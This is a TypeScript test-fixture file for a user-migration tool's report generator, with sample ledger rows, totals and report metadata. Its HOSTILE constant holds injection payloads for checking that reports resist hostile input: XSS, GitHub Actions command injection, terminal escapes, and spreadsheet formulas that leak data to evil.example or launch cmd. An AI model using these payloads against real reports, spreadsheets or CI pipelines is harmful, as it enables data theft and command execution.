import type { RequestSummary } from '../../src/apply/request-stats.ts';
import {
  type LedgerRow,
  OUTCOMES,
  type Outcome,
  type Totals,
  type WarningList,
  type WarningRow,
} from '../../src/plan/row.ts';
import type { ReportDelta, ReportFile, ReportHead } from '../../src/report/report-data.ts';

/** A row that failed because of its e-mail address; give what matters to the test. */
export function ledgerRow(given: Partial<LedgerRow> & { readonly row: number }): LedgerRow {
  return {
    file: 0,
    line: given.row + 1,
    outcome: 'invalid',
    code: 'email.invalid',
    field: 'email',
    message: 'The e-mail address has no domain.',
    hint: 'Correct it in the source system, or leave the cell empty.',
    sub: null,
    identifiers: {},
    attempts: 0,
    duplicateOf: null,
    ...given,
  };
}

export const NO_WARNINGS: WarningList = { rows: () => [], byCode: {} };

/** Warnings, of as many rows each as given. */
export function warningList(rows: readonly WarningRow[]): WarningList {
  const byCode: { [code: string]: number } = {};
  for (const { code } of rows) byCode[code] = (byCode[code] ?? 0) + 1;
  return { rows: () => rows, byCode };
}

/** Totals of these rows and of so many that ended otherwise. */
export function totalsOf(rows: readonly LedgerRow[], others: { readonly [outcome in Outcome]?: number } = {}): Totals {
  const ended = (outcome: Outcome): number =>
    rows.filter((row) => row.outcome === outcome).length + (others[outcome] ?? 0);
  const counts = Object.fromEntries(OUTCOMES.map((outcome) => [outcome, ended(outcome)])) as {
    [outcome in Outcome]: number;
  };
  return { rows: Object.values(counts).reduce((sum, count) => sum + count, 0), ...counts };
}

/** No requests; give what matters to the test. */
export function requestsOf(given: Partial<RequestSummary>): RequestSummary {
  return {
    batches: 0,
    sent: 0,
    retried: 0,
    byStatus: {},
    latencyMs: { p50: 0, p95: 0, max: 0 },
    limits: [],
    timeline: null,
    ...given,
  };
}

/** The head of a report on two files, with a run of GitHub's; give what matters to the test. */
export function reportHead(given: Partial<ReportHead> = {}): ReportHead {
  return {
    version: 1,
    tool: { name: 'cidaas-migrate', version: '1.2.3' },
    mode: 'apply',
    outcome: 'succeeded',
    tenant: 'https://acme.cidaas.de',
    run: {
      id: '4711',
      attempt: 1,
      url: 'https://github.com/acme/identity/actions/runs/4711',
      repository: 'acme/identity',
      event: 'schedule',
      sha: '0123456789abcdef0123456789abcdef01234567',
    },
    export: {
      files: [
        { name: 'users.csv', format: 'csv', encoding: 'utf-8', bytes: 1_234_567, sha256: 'a1'.repeat(32) },
        {
          name: 'archive/users-2019.csv',
          format: 'csv',
          encoding: 'windows-1252',
          bytes: 512,
          sha256: 'b2'.repeat(32),
        },
      ],
      rows: 0,
    },
    mapping: { name: 'mapping.yml', sha256: 'c3'.repeat(32) },
    planDigest: 'v1.aaaaaaaa.bbbbbbbb.cccccccc.dddddddd.eeeeeeee',
    startedAt: '2026-03-01T02:00:00.000Z',
    finishedAt: '2026-03-01T02:13:20.000Z',
    durationMs: 800_000,
    totals: totalsOf([]),
    skippedBy: {},
    warnings: {},
    requests: requestsOf({}),
    reason: null,
    resumed: null,
    delta: null,
    comparison: null,
    ...given,
  };
}

/** What a delta of 100 users found in which these are missing for the first time. */
export function deltaOf(missing: readonly string[]): ReportDelta {
  return {
    from: 'cidaas-migrate-state-7',
    known: 100,
    new: 1,
    changed: 2,
    unchanged: 95,
    missing: { total: missing.length + 1, new: missing.length, subs: missing },
    subChanged: [7],
    recreated: [],
  };
}

/** One row of every outcome a failure can have, as a messy export brings them. */
export const MESSY_FAILURES: readonly LedgerRow[] = [
  ledgerRow({
    row: 2,
    identifiers: { sub: '3f1c7a52-0000-4000-8000-000000000002', email: 'jana.example.com', username: 'jana' },
    sub: '3f1c7a52-0000-4000-8000-000000000002',
  }),
  ledgerRow({
    row: 5,
    line: 7,
    outcome: 'duplicate',
    code: 'duplicate',
    field: null,
    message: 'The same user is in row 3.',
    hint: 'Remove one of the two rows.',
    identifiers: { email: 'Otto.Muster@example.com', mobile_number: '+4915112345678' },
    duplicateOf: 3,
  }),
  ledgerRow({
    row: 8,
    file: 1,
    line: 3,
    outcome: 'failed',
    code: 'tenant.507',
    field: null,
    message: 'invalid email passed for o***@t***.com (reference 1767225600000-8d5b0a4e-1111-4222-8333-444455556666)',
    hint: 'Check that the e-mail domain exists and is not a disposable one, then run again.',
    identifiers: { email: 'olga@throwaway.example.com' },
    attempts: 3,
  }),
  ledgerRow({
    row: 9,
    file: 1,
    line: 4,
    outcome: 'unknown',
    code: 'tenant.timeout',
    field: null,
    message: 'No answer within 60 s.',
    hint: 'Run the same export again: create-or-update makes that safe.',
    identifiers: { sub: 'legacy-9', email: 'zoë@example.org' },
    sub: 'legacy-9',
    attempts: 6,
  }),
  ledgerRow({
    row: 10,
    file: 1,
    line: 5,
    outcome: 'unsent',
    code: 'unsent',
    field: null,
    message: 'The run stopped before this row was sent.',
    hint: 'Run the same export again: it continues with what is not settled.',
    identifiers: { username: 'li' },
  }),
];

/** What an attacker who can register himself in the legacy system might try on whoever reads the report. */
export const HOSTILE = {
  html: '<img src=x onerror=alert(1)><script>alert(1)</script>',
  markdown:
    '| [click](javascript:alert(1)) | @octocat #1 **bold** ![x](https://evil.example/x.png) https://evil.example',
  command: '\n::set-output name=outcome::succeeded\n##[set-env name=PATH]/tmp',
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  splitFormula: 'harmless;=cmd|"/c calc"!A1',
  terminal: '\u001b[2J\u001b]0;owned\u0007\u202egnp.exe\u2066\u0000',
} as const;

/** A file of the export with hostile text in every column, also where only a bug could put it. */
export function hostileFile(): ReportFile {
  const text: string = HOSTILE.html;
  return {
    name: text,
    format: text as ReportFile['format'],
    encoding: text as ReportFile['encoding'],
    bytes: 1,
    sha256: text,
  };
}
